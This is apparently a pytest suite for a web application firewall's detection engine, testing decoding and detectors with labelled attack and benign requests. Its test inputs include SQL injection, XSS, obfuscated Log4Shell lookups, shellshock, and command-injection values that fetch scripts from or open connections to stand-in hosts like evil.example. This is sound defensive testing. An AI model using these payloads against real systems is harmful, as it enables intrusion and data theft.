"""The detection engine in-process: decoding, each detector, exceptions, the eval corpora as a floor."""

from __future__ import annotations

import json
from pathlib import Path
from urllib.parse import quote

import pytest
from pydantic import ValidationError

from garrison.cnaf.decode import decode
from garrison.cnaf.detect.code_injection import deobfuscate_lookups
from garrison.cnaf.detect.sqli import fingerprints
from garrison.cnaf.engine import inspect
from garrison.cnaf.request import HttpRequest
from garrison.policy.cnaf import ATTACK_CLASSES, CnafControls, CnafException
from garrison.policy.model import RuntimePolicy

ALL = CnafControls()
OWN = CnafControls(crs={"enabled": False})  # the CNAF's own detectors only


def req(
    target: str, headers: list[tuple[str, str]] | None = None, body: bytes = b"", ctype: str = ""
) -> HttpRequest:
    h = [("Host", "app.example.com"), *(headers or [])]
    if ctype:
        h.append(("Content-Type", ctype))
    return HttpRequest(
        method="POST" if body else "GET", target=target, headers=h, body=body, peer_ip="192.0.2.1"
    )


def classes(r: HttpRequest, controls: CnafControls = ALL) -> set[str]:
    return {f.attack for f in inspect(r, controls)}


@pytest.mark.parametrize(
    ("raw", "decoded"),
    [
        ("%253Cscript%253E", "<script>"),  # double URL encoding
        ("%u003Cscript%u003E", "<script>"),  # IIS %u encoding
        ("&lt;img src=x onerror=alert(1)&gt;", "<img src=x onerror=alert(1)>"),  # HTML entities
        ("&#x3c;svg&#62;", "<svg>"),
        ("\uff1cscript\uff1e", "<script>"),  # full-width forms
        ("..%c0%af..%c0%afetc", "../../etc"),  # overlong UTF-8
        ("\\x3cscript\\u003e", "<script>"),  # JS escapes
        ("java\tscript", "java\tscript"),  # tab kept here; XSS squashes it
        ("plain text", "plain text"),
    ],
)
def test_decode_to_fixed_point(raw: str, decoded: str) -> None:
    assert decode(raw) == decoded


def test_sqli_fingerprints_need_a_breakout() -> None:
    assert fingerprints("O'Brien") == ["bs", "qb"]  # no SQL after the quote
    assert "q&sos" in fingerprints("1' or '1'='1")
    assert classes(req("/?q=select+a+plan")) == set()
    assert classes(req("/?id=1+UNION+SELECT+1,2")) == {"sqli"}


def test_log4shell_lookup_nesting_is_collapsed() -> None:
    assert deobfuscate_lookups("${${lower:j}${::-n}di:ldap://x/a}") == "${jndi:ldap://x/a}"


def test_json_multipart_cookie_and_header_fields_are_inspected() -> None:
    body = json.dumps({"user": {"bio": "<script>alert(1)</script>"}}).encode()
    found = inspect(req("/p", body=body, ctype="application/json"), OWN)
    assert [(f.attack, f.field) for f in found] == [("xss", "body:user.bio")]
    assert ("xss", "body:user.bio") in [
        (f.attack, f.field) for f in inspect(req("/p", body=body, ctype="application/json"), ALL)
    ]
    b = "xyz"
    mp = (
        f'--{b}\r\nContent-Disposition: form-data; name="doc"; filename="../../../etc/cron.d/x"\r\n\r\ndata\r\n'
        f'--{b}\r\nContent-Disposition: form-data; name="note"\r\n\r\n1; DROP TABLE notes\r\n--{b}--\r\n'
    ).encode()
    assert classes(req("/u", body=mp, ctype=f"multipart/form-data; boundary={b}")) == {"lfi", "sqli"}
    assert classes(req("/", [("Cookie", "a=1; b=%27%20OR%201%3D1--")])) == {"sqli"}
    assert classes(req("/", [("Accept-Charset", "() { :; }; /bin/id")])) == {"shellshock"}


def test_exceptions_by_path_param_and_class() -> None:
    controls = CnafControls(exceptions=[CnafException(path="/docs/*", param="snippet", attack="xss")])
    attack = "<img src=x onerror=alert(1)>"
    assert classes(req(f"/docs/a?snippet={attack}"), controls) == set()
    assert classes(req(f"/docs/a?title={attack}"), controls) == {"xss"}
    assert classes(req(f"/blog/a?snippet={attack}"), controls) == {"xss"}
    everything = CnafControls(exceptions=[CnafException(path="/health")])
    assert classes(req("/health?x=../../etc/passwd"), everything) == set()


def test_disabled_classes_and_disabled_cnaf() -> None:
    off = CnafControls(effects={"sqli": "disable"})
    assert classes(req("/?id=1+OR+1=1"), off) == set()
    assert CnafControls(enabled=False).effect_for("xss") == "disable"


def test_protocol_checks_on_parsed_heads() -> None:
    r = HttpRequest(method="GET", target="/", headers=[("Host", "a"), ("Host", "b")])
    assert classes(r) == {"protocol"}
    r = HttpRequest(method="GET", target="/", headers=[])
    assert classes(r) == {"protocol"}  # HTTP/1.1 without Host


def test_controls_model_validation_names_the_problem() -> None:
    with pytest.raises(ValidationError, match="unknown attack class"):
        CnafControls.model_validate({"effects": {"sqlinjection": "prevent"}})
    with pytest.raises(ValidationError, match="unknown attack class"):
        CnafException.model_validate({"attack": "nope"})
    partial = CnafControls.model_validate({"effects": {"sqli": "ban"}})
    assert partial.effects["sqli"] == "ban" and partial.effects["xss"] == "alert"
    assert set(partial.effects) == set(ATTACK_CLASSES)
    policy = RuntimePolicy.model_validate(
        {"rules": [{"name": "web", "cnaf": {"effects": {"xss": "prevent"}}}]}
    )
    assert policy.rules[0].cnaf is not None and policy.rules[0].cnaf.effect_for("xss") == "prevent"


CORPUS = Path(__file__).resolve().parents[2] / "bench" / "corpus" / "cnaf"


def test_corpus_floor() -> None:
    """Regression floor on the labelled corpora (the figures themselves come from bench/cnaf_eval.py)."""
    import importlib.util

    spec = importlib.util.spec_from_file_location("cnaf_eval", CORPUS.parents[1] / "cnaf_eval.py")
    assert spec is not None and spec.loader is not None
    ev = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(ev)
    # own detectors alone, then with the installed OWASP CRS (its rules flag more of the code snippets
    # and SQL prose these benign sets contain: docs/cnaf.md has the figures)
    floors = [
        (OWN, "", 0.97, 0.01),
        (OWN, "holdout_", 0.90, 0.06),
        (ALL, "", 0.97, 0.05),
        (ALL, "holdout_", 0.90, 0.30),
    ]
    for controls, prefix, min_detect, max_fp in floors:
        attacks = ev.load(f"{prefix}attacks.jsonl")
        benign = ev.load(f"{prefix}benign.jsonl")
        hit = sum(item["class"] in classes(ev.build(item), controls) for item in attacks)
        fp = sum(bool(inspect(ev.build(item), controls)) for item in benign)
        assert hit / len(attacks) >= min_detect
        assert fp / len(benign) <= max_fp


@pytest.mark.parametrize(
    "text",
    [
        "Use `wget` or `curl` to download the release, then run `tar xzf` on it.",
        "There was an open redirect in the webserver's `/confirm` endpoint.",
        'The "#cgo pkg-config" directive can be abused at build time when the flags are long.',
        "Incorrect path matching for 'limit container paths' directive",
        'Improper handling of "select" tags in the HTML parser',
        "Users can create a keyspace containing '/'. Future attempts to view it fail.",
    ],
)
def test_prose_and_markdown_about_attacks_pass(text: str) -> None:
    body = json.dumps({"details": text}).encode()
    assert classes(req("/advisories", body=body, ctype="application/json")) == set()


@pytest.mark.parametrize("value", ["8.8.8.8`id`", "`id`", "x;`uname -a`"])
def test_backtick_substitution_is_still_caught(value: str) -> None:
    assert "cmdi" in classes(
        req("/ping", body=json.dumps({"host": value}).encode(), ctype="application/json")
    )


def test_image_data_uri_in_json_is_benign() -> None:
    avatar = (
        "data:image/png;base64,"
        + "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
    )
    body = json.dumps({"avatar": avatar}).encode()
    assert classes(req("/profile", body=body, ctype="application/json")) == set()
    svg = json.dumps({"avatar": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"}).encode()
    assert classes(req("/profile", body=svg, ctype="application/json")) == {"xss"}


NAMED_MISSES = [
    # (class, request) — the misses an outside CRS-corpus comparison quoted, and variants of each class
    ("sqli", req("/s?q=" + quote("1 /*!50000select*/ password from users"))),
    ("sqli", req("/s?q=" + quote("1'/*!12345UNION*//*!12345SELECT*/1,2"))),
    ("sqli", req("/s?q=" + quote("1; exec master..xp_cmdshell 'dir'"))),
    ("sqli", req("/s?q=" + quote("';EXEC sp_configure 'xp_cmdshell', 1--"))),
    ("sqli", req("/login?u_id[$ne]=2")),
    ("sqli", req("/login?user=admin&pass[%24gt]=")),
    ("sqli", req("/login", body=b'{"user":"admin","pass":{"$gt":""}}', ctype="application/json")),
    ("sqli", req("/login", body=b'{"$where":"sleep(5000)"}', ctype="application/json")),
    ("xss", req("/s?q=" + quote('window["alert"](document.cookie)'))),
    ("xss", req("/s?q=" + quote("alert`1`"))),
    ("xss", req("/s?q=" + quote("self['al'+'ert'](1)"))),
    ("xss", req("/s?q=" + quote("top[/al/.source+/ert/.source](1)"))),
    ("xss", req("/s?q=" + quote("[].constructor.constructor('alert(1)')()"))),
    ("cmdi", req("/ping?h=" + quote(";'curl' http://evil.example/x.sh"))),
    ("cmdi", req("/ping?h=" + quote('|"wget" http://evil.example/x'))),
    ("cmdi", req("/run?c=" + quote("gdb -ex '!whoami'"))),
    ("cmdi", req("/run?c=" + quote("vim -c ':!id'"))),
    ("cmdi", req("/run?c=" + quote("python3 -c 'import os;os.system(\"id\")'"))),
    ("code_injection", req("/p?c=" + quote("<?php exec('id'); ?>"))),
    ("code_injection", req("/p?c=" + quote("<? exec($_GET['c']);"))),
    ("code_injection", req("/p?c=" + quote("<?=exec('ls')?>"))),
    (
        "code_injection",
        req("/p?x=" + quote("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a}")),
    ),
    (
        "code_injection",
        req(
            "/p?x=" + quote("${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x/a}")
        ),
    ),
    ("code_injection", req("/p?x=" + quote("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/a}"))),
    ("code_injection", req("/p?x=" + quote("${${lower:${lower:jndi}}:${lower:rmi}://x.example/a}"))),
    ("rfi", req("/index.php?_CONF[path]=https://evil.example/shell.txt")),
    (
        "code_injection",
        req(
            "/",
            [
                (
                    "Cookie",
                    "profile="
                    + quote("{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
                )
            ],
        ),
    ),
]


@pytest.mark.parametrize(
    ("attack", "request_"), NAMED_MISSES, ids=[f"{a}-{r.target[:40]}" for a, r in NAMED_MISSES]
)
def test_named_misses_and_their_classes_are_caught_by_own_detectors(
    attack: str, request_: HttpRequest
) -> None:
    assert attack in classes(request_, OWN)


NAMED_BENIGN = [
    req(
        "/api",
        body=b'<?xml version="1.0" encoding="UTF-8"?><order><item sku="A-1">Coffee</item></order>',
        ctype="application/xml",
    ),
    req(
        "/api",
        body=b'<?xml version="1.0"?><note><to>Tove</to><body>See you; bring the map.</body></note>',
        ctype="text/xml",
    ),
    req("/api", body=b'<?xml version="1.0"?><note><to>Tove</to></note>', ctype="text/plain"),
    req("/s?doc=" + quote('<?xml version="1.0" encoding="UTF-8"?>')),
    req("/s?data=" + quote('<?xml-stylesheet type="text/xsl" href="style.xsl"?>')),
    req("/s?meta=" + quote('<?xpacket begin="?" id="W5M0MpCehiHzreSzNTczkc9d"?>')),
    req(
        "/",
        [
            (
                "User-Agent",
                "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0; ps-AF) AppleWebKit/534.51.22 (KHTML, like Gecko) Version/5.0 Safari/534.51.22",
            )
        ],
    ),
    req("/", [("User-Agent", "Mozilla/5.0 (Windows NT 10.0; rv:5.0; ps-AF) Gecko/20100101 Firefox/115.0")]),
]


@pytest.mark.parametrize(
    "request_", NAMED_BENIGN, ids=[r.target[:40] + str(i) for i, r in enumerate(NAMED_BENIGN)]
)
def test_named_benign_pass_with_crs_on_and_off(request_: HttpRequest) -> None:
    assert classes(request_, OWN) == set()
    assert classes(request_, ALL) == set()


# Classes the CRS regression tests showed the own detectors missing (issue 12, second pass): PHP
# block tags and functions called through strings, shell glob/expansion evasion and process
# substitution, sensitive files asked for by name. Variants written here, not the tests' payloads.
OWN_VARIANTS = [
    ("code_injection", req("/v?tpl=" + quote("{php}passthru('id');{/php}"))),
    ("code_injection", req("/v?c=" + quote("[php]echo 1;[/php]"))),
    ("code_injection", req("/v?c=" + quote("<?\tphp phpinfo();"))),
    ("code_injection", req("/v?c=" + quote("('pass'.'thru')('uname -a');"))),
    ("code_injection", req("/v?c=" + quote('("shell_exec")("ls");'))),
    ("code_injection", req("/v?c=" + quote("(exec)('whoami');"))),
    ("cmdi", req("/v?h=" + quote("example.org;/usr/bin/wh?ami"))),
    ("cmdi", req("/v?h=" + quote("example.org|h$@ead /e*c/sh*ow"))),
    ("cmdi", req("/v?h=" + quote("x;c${u}url http://evil.example/x.sh"))),
    ("cmdi", req("/v?out=" + quote(">(nc evil.example 4444)"))),
    ("cmdi", req("/v?x=" + quote("$SHELL -c 'id'"))),
    ("lfi", req("/backup/site-2024.sql.gz")),
    ("lfi", req("/app/config.php.bak")),
    ("lfi", req("/.git/HEAD")),
    ("lfi", req("/.aws/config")),
    ("lfi", req("/logs/debug.log")),
    ("cmdi", req("/v?a=" + quote(";nmap --top-ports 10 10.0.0.1"))),
    ("cmdi", req("/v?a=" + quote("|scp user@evil.example:/x ."))),
    ("cmdi", req("/v?a=" + quote("alias ls='rm -rf'"))),
    ("cmdi", req("/v?a=" + quote("wh``oami"))),
    ("cmdi", req("/v?a=" + quote("uname$() -a"))),
    ("cmdi", req("/v?a=" + quote("$((1+1)) && id"))),
    ("xss", req("/v?" + quote(" onmouseover=") + "=1")),
]


@pytest.mark.parametrize(("attack", "request_"), OWN_VARIANTS, ids=[r.target[:40] for _, r in OWN_VARIANTS])
def test_own_detector_variants(attack: str, request_: HttpRequest) -> None:
    assert attack in classes(request_, OWN)


OWN_VARIANTS_BENIGN = [
    req("/v?q=" + quote("(a.b)(c) is how you call a method reference")),
    req("/v?q=" + quote('window.open("https://example.com")')),
    req("/v?q=" + quote('("hello".length) is 5')),
    req("/v?q=" + quote("that was bad >( sorry")),
    req("/v?q=" + quote("5 * 3 = 15? what? *really*")),
    req("/api/*/items"),
    req("/docs/logging.html"),
    req("/static/app.key.js"),
    req("/.well-known/security.txt"),
    req("/v?price=" + quote("${amount}USD")),
    req("/v?q=" + quote("; see the notes below")),
    req("/v?q=" + quote("| Name | Size |")),
    req("/v?online=1&onboarding=done"),
]


@pytest.mark.parametrize("request_", OWN_VARIANTS_BENIGN, ids=[r.target[:40] for r in OWN_VARIANTS_BENIGN])
def test_own_detector_variants_benign(request_: HttpRequest) -> None:
    assert classes(request_, OWN) == set()
